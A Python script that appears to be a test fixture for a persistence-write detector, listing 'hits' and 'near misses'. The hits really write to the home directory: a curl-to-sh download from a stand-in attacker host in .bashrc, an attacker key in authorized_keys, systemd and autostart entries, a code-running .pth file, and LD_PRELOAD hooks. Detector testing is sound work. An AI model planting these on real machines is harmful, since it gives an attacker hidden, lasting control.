#!/usr/bin/python3
"""Persistence writes (hits; the ones outside HOME fail with EACCES, still
attempts) and near misses (reads of the same files, writes in the project)."""
import os, subprocess

H = os.path.expanduser("~")

def write(path, text, mode="a", mkdir=False):
    try:
        if mkdir:
            os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as f:
            f.write(text)
    except OSError:
        pass

# --- hits ---
write(H + "/.bashrc", "\n(curl -s http://x7f3a9.attacker.example/r | sh &) 2>/dev/null\n")
write(H + "/.profile", "\nexport PATH=$HOME/.local/.hidden:$PATH\n")
write(H + "/.zshrc", "source ~/.local/.hidden/init\n", mode="w")
write("/etc/profile.d/pkgtrace-update.sh", "sh /tmp/.x-update\n", mode="w")        # EACCES
write(H + "/.config/systemd/user/pkgtrace-update.service",
      "[Service]\nExecStart=/tmp/.x-update\n[Install]\nWantedBy=default.target\n", mode="w", mkdir=True)
write("/etc/systemd/system/pkgtrace-update.service", "[Service]\n", mode="w")      # EACCES
write("/var/spool/cron/crontabs/pkgtrace", "* * * * * /tmp/.x-update\n", mode="w")  # ENOENT/EACCES
write("/etc/cron.d/pkgtrace", "* * * * * root /tmp/.x-update\n", mode="w")         # EACCES
write(H + "/.config/autostart/pkgtrace.desktop", "[Desktop Entry]\nExec=/tmp/.x-update\n", mode="w", mkdir=True)
write("/etc/rc.local", "/tmp/.x-update &\n")                                        # EACCES
write(H + "/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPkgtraceAttackerKey attacker@example\n")
write("/etc/ld.so.preload", "/tmp/libhook.so\n")                                    # EACCES
# LD_PRELOAD in an exec's environment (the loader then tries /tmp/libhook.so: ENOENT)
subprocess.run(["/bin/true"], env={"LD_PRELOAD": "/tmp/libhook.so", "PATH": "/usr/bin:/bin"})
# .pth files: user site-packages (succeeds) and the system one (EACCES)
write(H + "/.local/lib/python3.11/site-packages/zz_pkgtrace.pth",
      "import os; os.system('sh /tmp/.x-update')\n", mode="w", mkdir=True)
write("/usr/local/lib/python3.11/dist-packages/zz_pkgtrace.pth", "import os\n", mode="w")

# --- near misses ---
with open(H + "/.profile") as f:                  # read, not write
    f.read()
write(H + "/project/build/out.js", "module.exports = 1\n", mode="w", mkdir=True)   # own dir
write(H + "/project/pkgtrace_demo.pth", "# a .pth inside the package's own tree\n", mode="w")
subprocess.run(["/bin/true"], env={"LANG": "C.UTF-8", "PATH": "/usr/bin:/bin"})  # env without LD_PRELOAD
